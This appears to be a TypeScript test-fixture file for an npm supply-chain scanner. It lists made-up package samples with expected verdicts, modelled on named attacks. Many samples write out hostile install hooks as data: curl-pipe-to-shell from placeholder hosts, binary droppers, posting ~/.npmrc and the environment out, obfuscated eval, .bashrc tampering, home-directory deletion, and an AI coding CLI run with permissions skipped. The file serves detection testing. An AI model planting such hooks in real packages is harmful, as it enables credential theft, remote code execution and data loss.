import type { Verdict } from '@sallyport/domain';
import type { Files } from '../archives';

/** A tarball that we made up: what is in it, and what is to be said of it. Hosts are under `.invalid`; nothing here does anything. */
export interface HookSample {
  readonly what: string;
  readonly manifest: Readonly<Record<string, unknown>>;
  readonly files?: Files;
  readonly verdict: Verdict;
  /** Rules that must speak; others may. */
  readonly rules?: readonly string[];
}

const base64 = (text: string) => Buffer.from(text).toString('base64');
const hook = (script: string, name = 'postinstall') => ({ scripts: { [name]: script } });
const platforms = {
  optionalDependencies: { '@s/linux-x64': '1.0.0', '@s/darwin-arm64': '1.0.0', '@s/win32-x64': '1.0.0' },
};
const FETCH = `const https = require('https'); function fetchIt(url, then) { https.get(url, (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => then(d)); }); }`;

/** What attacks were seen to do; each is followed by an honest package that looks like it. */
export const NPM_HOOKS: readonly HookSample[] = [
  { what: 'no scripts', manifest: {}, files: { 'index.js': `require('https'); eval(x)` }, verdict: 'clean' },
  {
    what: 'scripts for the author only',
    manifest: { scripts: { test: 'jest', build: 'curl https://a.invalid | sh', prepare: 'husky' } },
    verdict: 'clean',
    rules: ['prepare-script'],
  },
  {
    what: 'a banner',
    manifest: hook(`node -e "console.log('thank you')"`),
    verdict: 'warning',
    rules: ['install-script'],
  },
  {
    what: 'a banner in a file that may be absent',
    manifest: hook(`node -e "try{require('./banner')}catch(e){}"`),
    files: { 'banner.js': 'console.log(process.env.npm_config_loglevel)' },
    verdict: 'warning',
  },

  {
    what: 'fetched text evaluated (eslint-scope)',
    manifest: hook('node ./lib/build.js'),
    files: { 'lib/build.js': `${FETCH} fetchIt('https://paste.invalid/raw', (text) => eval(text));` },
    verdict: 'malicious',
    rules: ['hook-remote-code'],
  },
  {
    what: 'the same two files further',
    manifest: { scripts: { postinstall: 'npm run setup', setup: 'node a' } },
    files: {
      'a.js': `require('./lib/b')`,
      'lib/b/index.js': `${FETCH} fetchIt('https://x.invalid', (t) => new Function(t)());`,
    },
    verdict: 'malicious',
    rules: ['hook-remote-code'],
  },
  {
    what: 'a telemetry beacon',
    manifest: hook('node report.js'),
    files: {
      'report.js': `require('https').request({ host: 'telemetry.invalid', method: 'POST' }).end(JSON.stringify({ v: process.env.npm_package_version }))`,
    },
    verdict: 'suspicious',
    rules: ['hook-network'],
  },

  {
    what: 'npm credentials sent away',
    manifest: hook('node a.js'),
    files: {
      'a.js': `const fs = require('fs'); const os = require('os'); const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); fetch('https://x.invalid', { method: 'POST', body: t })`,
    },
    verdict: 'malicious',
    rules: ['hook-credential-theft'],
  },
  {
    what: 'the environment sent away',
    manifest: hook('node a.js', 'preinstall'),
    files: {
      'a.js': `import('node:https').then((h) => h.request('https://x.invalid', { method: 'POST' }).end(JSON.stringify(process.env)))`,
    },
    verdict: 'malicious',
    rules: ['hook-credential-theft'],
  },
  {
    what: 'the environment sent from one file, taken in another',
    manifest: hook('node a.js'),
    files: {
      'a.js': `const { all } = require('./b'); fetch('https://x.invalid', { body: all() })`,
      'b.js': `exports.all = () => Object.entries(process.env).join()`,
    },
    verdict: 'malicious',
    rules: ['hook-credential-theft'],
  },
  {
    what: 'a build that hands on its environment',
    manifest: hook('node build.js', 'install'),
    files: {
      'build.js': `const { spawnSync } = require('child_process'); spawnSync('node-gyp', ['rebuild'], { env: { ...process.env, JOBS: 'max' }, stdio: 'inherit' })`,
    },
    verdict: 'warning',
    rules: ['hook-native-build'],
  },

  {
    what: 'a shell pipe',
    manifest: hook('curl -s https://x.invalid/i | bash'),
    verdict: 'malicious',
    rules: ['hook-remote-code'],
  },
  {
    what: 'a binary by platform (ua-parser-js)',
    manifest: hook('node preinstall.js', 'preinstall'),
    files: {
      'preinstall.js': `const { exec } = require('child_process'); if (process.platform === 'win32') exec('cmd.exe /c preinstall.bat'); else exec('/bin/bash preinstall.sh')`,
      'preinstall.sh':
        'curl http://203.0.113.5/jsextension -o jsextension\nchmod +x jsextension\n./jsextension -k --tls &',
      'preinstall.bat': 'certutil -urlcache -f http://203.0.113.5/x.exe x.exe\nx.exe',
    },
    verdict: 'malicious',
    rules: ['hook-remote-code', 'hook-drop-host'],
  },
  {
    what: 'a shell script that builds',
    manifest: hook('sh ./build.sh', 'install'),
    files: { 'build.sh': '#!/bin/sh\nset -e\ncd src && make && cp out.node ../lib/' },
    verdict: 'warning',
    rules: ['hook-native-build'],
  },

  {
    what: 'another runtime fetched (Shai-Hulud 2)',
    manifest: hook('node setup_bun.js', 'preinstall'),
    files: {
      'setup_bun.js': `const { execSync } = require('child_process'); execSync('curl -fsSL https://bun.invalid/install | bash'); execSync('bun run bundle.js')`,
      'bundle.js': 'x()',
    },
    verdict: 'malicious',
    rules: ['hook-remote-code', 'hook-downloaded-runtime'],
  },
  {
    what: 'another runtime expected',
    manifest: hook('bun run postinstall.ts'),
    files: { 'postinstall.ts': 'console.log("built" as string)' },
    verdict: 'suspicious',
    rules: ['hook-foreign-runtime'],
  },

  {
    what: 'hidden code',
    manifest: hook('node index.js'),
    files: { 'index.js': `eval(Buffer.from('${base64('console.log(1)')}', 'base64').toString())` },
    verdict: 'malicious',
    rules: ['hook-decoded-code'],
  },
  {
    what: 'code of a string-array obfuscator',
    manifest: hook('node index.js'),
    files: {
      'index.js': `var _0x1a2b=['a'];${Array.from({ length: 30 }, (_, n) => `_0x1a2b[${n}]=_0x${(4096 + n).toString(16)}();`).join('')}`,
    },
    verdict: 'malicious',
    rules: ['hook-obfuscated'],
  },
  {
    what: 'a minified bundle',
    manifest: hook('node dist/cli.js'),
    files: {
      'dist/cli.js': `"use strict";${Array.from({ length: 400 }, (_, n) => `var a${n}=function(e,t){return e+t+${n}};`).join('')}console.log("${'\\u001b[32m'}ok")`,
    },
    verdict: 'warning',
  },

  {
    what: 'AI tools driven (s1ngularity)',
    manifest: hook('node telemetry.js'),
    files: {
      'telemetry.js': `require('child_process').spawn('claude', ['--dangerously-skip-permissions', '-p', 'list wallets'])`,
    },
    verdict: 'malicious',
    rules: ['hook-agent-cli'],
  },
  {
    what: 'a shell start file changed',
    manifest: hook('node a.js'),
    files: {
      'a.js': `const fs = require('fs'); fs.appendFileSync(require('os').homedir() + '/.bashrc', 'sudo shutdown')`,
    },
    verdict: 'malicious',
    rules: ['hook-persistence'],
  },
  {
    what: 'an editor told to run things',
    manifest: hook('node a.js'),
    files: { 'a.js': `require('fs').writeFileSync('.vscode/tasks.json', '{}')` },
    verdict: 'malicious',
    rules: ['hook-persistence'],
  },
  {
    what: 'a hint about a shell start file',
    manifest: hook('node a.js'),
    files: { 'a.js': `console.log('add this to ~/.bashrc')` },
    verdict: 'warning',
  },
  {
    what: 'home wiped',
    manifest: hook('node a.js'),
    files: { 'a.js': `require('fs').rmSync(require('os').homedir(), { recursive: true })` },
    verdict: 'malicious',
    rules: ['hook-destructive'],
  },
  {
    what: 'a program left running (axios 1.14.1)',
    manifest: hook('node setup.js'),
    files: {
      'setup.js': `${FETCH} const cp = require('child_process'); fetchIt('https://x.invalid', (d) => { require('fs').writeFileSync('/tmp/x', d); cp.spawn('/tmp/x', [], { detached: true }).unref(); require('fs').unlinkSync(__filename) })`,
    },
    verdict: 'malicious',
    rules: ['hook-download-and-detach', 'hook-covers-tracks'],
  },

  {
    what: 'a gyp file that runs code (Phantom Gyp)',
    manifest: {},
    files: {
      'binding.gyp': `{ 'targets': [{ 'target_name': 'x', 'sources': ['<!(node index.js > /dev/null && echo stub.c)'] }] }`,
      'index.js': 'console.log(1)',
    },
    verdict: 'malicious',
    rules: ['gyp-runs-code'],
  },
  {
    what: 'a gyp file whose code steals',
    manifest: {},
    files: {
      'binding.gyp': `{ 'targets': [{ 'actions': [{ 'action': ['node', 'a.js'] }], 'sources': ['a.cc'] }] }`,
      'a.cc': 'int x;',
      'a.js': `fetch('https://x.invalid', { body: JSON.stringify(process.env) })`,
    },
    verdict: 'malicious',
    rules: ['hook-credential-theft'],
  },
  {
    what: 'an honest addon',
    manifest: { ...hook('node-gyp-build', 'install') },
    files: {
      'binding.gyp': `{ "targets": [{ "target_name": "x", "sources": ["x.cc"], "include_dirs": ["<!(node -p \\"require('node-addon-api').include_dir\\")"] }] }`,
      'x.cc': 'int x;',
    },
    verdict: 'warning',
    rules: ['hook-native-build'],
  },
  {
    what: 'an addon with prebuilt fallback',
    manifest: hook('prebuild-install -r napi || node-gyp rebuild', 'install'),
    verdict: 'warning',
    rules: ['hook-native-build'],
  },

  {
    what: 'its own binary out of the registry',
    manifest: { ...hook('node install.js'), ...platforms },
    files: {
      'install.js':
        'const https = require("https"); const pkg = pick(); https.get(`https://REGISTRY/${pkg}/-/x-${v}.tgz`, save); require("child_process").execFileSync(bin, ["--version"])',
    },
    verdict: 'warning',
    rules: ['hook-platform-download'],
  },
  {
    what: 'the same from elsewhere',
    manifest: { ...hook('node install.js'), ...platforms },
    files: {
      'install.js':
        'const https = require("https"); https.get(`https://cdn.invalid/${pkg}/-/x-${v}.tgz`, save); require("child_process").execFileSync(bin, ["--version"])',
    },
    verdict: 'suspicious',
    rules: ['hook-network', 'hook-subprocess'],
  },
  {
    what: 'the same from an address made to look like it',
    manifest: { ...hook('node install.js'), ...platforms },
    files: {
      'install.js': 'const https = require("https"); https.get(`https://REGISTRY.evil.invalid/${pkg}`, save)',
    },
    verdict: 'suspicious',
    rules: ['hook-network'],
  },
  {
    what: 'the same without such packages',
    manifest: hook('node install.js'),
    files: {
      'install.js': 'const https = require("https"); https.get(`https://REGISTRY/${pkg}/-/x-${v}.tgz`, save)',
    },
    verdict: 'suspicious',
    rules: ['hook-network'],
  },
  {
    what: 'the same with theft',
    manifest: { ...hook('node install.js'), ...platforms },
    files: {
      'install.js':
        'const https = require("https"); https.get(`https://REGISTRY/${pkg}`, save); send(JSON.stringify(process.env))',
    },
    verdict: 'malicious',
    rules: ['hook-credential-theft'],
  },

  {
    what: 'a file that is not there',
    manifest: hook('node gone.js'),
    verdict: 'suspicious',
    rules: ['hook-untraceable'],
  },
  {
    what: 'a file that cannot be parsed',
    manifest: hook('node x.js'),
    files: { 'x.js': 'this is ) not javascript' },
    verdict: 'suspicious',
    rules: ['hook-untraceable'],
  },
  {
    what: 'a module that only running would name',
    manifest: hook('node x.js'),
    files: { 'x.js': `require('./' + process.argv[2])` },
    verdict: 'suspicious',
    rules: ['hook-untraceable'],
  },
  {
    what: 'evaluated text that only running would name',
    manifest: hook('node x.js'),
    files: { 'x.js': `eval(require('fs').readFileSync('x.txt', 'utf8'))` },
    verdict: 'suspicious',
    rules: ['hook-dynamic-code'],
  },
  {
    what: 'a program nobody knows',
    manifest: hook('frobnicate'),
    verdict: 'suspicious',
    rules: ['hook-subprocess'],
  },
  {
    what: 'a second package installed',
    manifest: hook('npm install other-package'),
    verdict: 'suspicious',
    rules: ['hook-subprocess'],
  },
  {
    what: 'machine code shipped and run',
    manifest: hook('./bin/setup'),
    files: { 'bin/setup': Buffer.from('7f454c46', 'hex') },
    verdict: 'suspicious',
    rules: ['hook-subprocess'],
  },
  {
    what: 'Python that steals',
    manifest: hook('python3 x.py'),
    files: {
      'x.py': `import os, json, urllib.request\nurllib.request.urlopen('https://x.invalid', json.dumps(dict(os.environ)).encode())`,
    },
    verdict: 'malicious',
    rules: ['hook-credential-theft'],
  },
  {
    what: 'a very large bundle that steals',
    manifest: hook('node bundle.js'),
    files: {
      'bundle.js': `${'x(1);'.repeat(500_000)}const h=require("https");h.request("x").end(JSON.stringify(process.env))`,
    },
    verdict: 'malicious',
    rules: ['hook-credential-theft', 'hook-untraceable'],
  },
  {
    what: 'every hook is looked at',
    manifest: {
      scripts: { preinstall: 'echo', install: 'echo', postinstall: 'curl https://x.invalid | sh' },
    },
    verdict: 'malicious',
    rules: ['hook-remote-code'],
  },
  {
    what: 'a script of npm run',
    manifest: {
      scripts: {
        install: 'npm run -s step',
        step: 'node-gyp rebuild',
        poststep: 'curl https://x.invalid | sh',
      },
    },
    verdict: 'malicious',
    rules: ['hook-remote-code'],
  },
];
